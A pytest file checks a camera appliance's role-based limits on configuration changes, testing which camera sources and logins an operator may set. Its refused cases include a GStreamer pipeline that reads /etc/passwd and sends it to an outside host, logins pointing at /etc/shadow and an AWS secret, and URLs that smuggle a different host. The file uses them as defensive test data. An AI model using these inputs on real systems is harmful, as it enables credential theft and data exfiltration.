"""What an operator may make of a camera: no programs, and no login that goes elsewhere than it was meant to."""

from __future__ import annotations

from copy import deepcopy
from pathlib import Path
from typing import Any

import pytest

from appliance.access.roles import Role
from appliance.configuration.changes import add_camera, patch, remove_camera, replace_camera
from appliance.configuration.store import ConfigurationStore, Wish
from appliance.control.reach import OutOfReach, Way, within_reach

GATE = {"name": "gate", "source": "rtsp://gate.local:554/1", "login": "file:/data/secrets/gate.login"}
PIPE = {"name": "pipe", "source": "gst:videotestsrc"}
ROOF = {"name": "roof", "source": "rtsp://roof.local/1"}
TREE: dict[str, Any] = {"cameras": [GATE, PIPE, ROOF], "detector": {"model": "demo"}}
OTHERS = ("gst:filesrc location=/etc/passwd ! tcpclientsink host=10.0.0.9", "gst:")

REFUSED: dict[str, Any] = {
    "a new pipeline": add_camera({"name": "a", "source": OTHERS[0]}),
    "another pipeline": replace_camera("pipe", {**PIPE, "source": OTHERS[0]}),
    "a pipeline for a camera": patch("cameras.roof", {"source": OTHERS[1]}),
    "the environment": add_camera({"name": "a", "source": "http://10.0.0.9/", "login": "env:AWS_SECRET"}),
    "any file": patch("cameras.roof", {"login": "file:/etc/shadow"}),
    "somebody else's login": patch("cameras.roof", {"login": GATE["login"]}),
    "somebody else's login for a new one": add_camera({"name": "a", "source": "http://10.0.0.9/", "login": GATE["login"]}),
    "another host": patch("cameras.gate", {"source": "rtsp://10.0.0.9/1"}),
    "another port": patch("cameras.gate", {"source": "rtsp://gate.local:8554/1"}),
    "in the clear": patch("cameras.gate", {"source": "http://gate.local:554/1"}),
    "a host that looks alike": patch("cameras.gate", {"source": "rtsp://gate.local:554@10.0.0.9/1"}),
    "a host before another one": patch("cameras.gate", {"source": "rtsp://10.0.0.9\\gate.local:554/1"}),
    "a pipeline with the login": patch("cameras.gate", {"source": PIPE["source"]}),
    "a name and a host": replace_camera("gate", {**GATE, "name": "port", "source": "rtsp://10.0.0.9/1"}),
}
ALLOWED: dict[str, Any] = {
    "a camera": add_camera({"name": "a", "source": "rtsp://10.0.0.9/1"}),
    "another stream": patch("cameras.gate", {"source": "rtsp://gate.local:554/2?tcp"}),
    "another name": replace_camera("gate", {**GATE, "name": "port"}),
    "a second look": add_camera({**GATE, "name": "again", "source": "rtsp://gate.local:554/3"}),
    "a line": patch("cameras.pipe", {"stall_s": 9}),
    "no login any more": patch("cameras.gate", {"login": None, "source": "rtsp://10.0.0.9/1"}),
    "no camera any more": remove_camera("gate"),
}


@pytest.mark.parametrize("change", REFUSED.values(), ids=REFUSED.keys())
def test_what_reaches_too_far_is_refused(change: Any) -> None:
    with pytest.raises(OutOfReach, match="administrator"):
        within_reach(Role.OPERATOR, change)(deepcopy(TREE))
    within_reach(Role.ADMIN, change)(deepcopy(TREE))


@pytest.mark.parametrize("change", ALLOWED.values(), ids=ALLOWED.keys())
def test_what_does_not_is_done(change: Any) -> None:
    by_operator, by_admin = deepcopy(TREE), deepcopy(TREE)
    within_reach(Role.OPERATOR, change)(by_operator)
    change(by_admin)
    assert by_operator == by_admin


def test_a_login_that_was_just_typed_in_goes_with_its_camera() -> None:
    camera = {"name": "a", "source": "rtsp://10.0.0.9/1", "login": "file:/data/secrets/a.login"}
    within_reach(Role.OPERATOR, add_camera(camera), camera["login"])(deepcopy(TREE))
    with pytest.raises(OutOfReach):
        within_reach(Role.OPERATOR, add_camera({**camera, "source": "gst:x"}), camera["login"])(deepcopy(TREE))
    with pytest.raises(OutOfReach):
        within_reach(Role.OPERATOR, add_camera(camera))(deepcopy(TREE))


@pytest.mark.parametrize("cameras", [None, "x", [1, None, {"source": 0}, {}]])
def test_what_is_no_site_is_somebody_elses_matter(cameras: object) -> None:
    within_reach(Role.OPERATOR, lambda tree: None)({"cameras": cameras})


def test_the_host_is_what_stands_there() -> None:
    assert Way("rtsp://me@gate:554?a=/b").host == "rtsp://me@gate:554"
    assert Way("0").host == "0"


def test_the_file_stays_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "site.yaml"
    path.write_text("cameras: []\ndetector: {model: demo}\n")
    store = ConfigurationStore(path, tmp_path)
    for is_dry in (False, True):
        with pytest.raises(OutOfReach):
            store.change(within_reach(Role.OPERATOR, add_camera({"name": "a", "source": OTHERS[0]})), Wish(is_dry=is_dry))
    assert len(store.history()) == 1
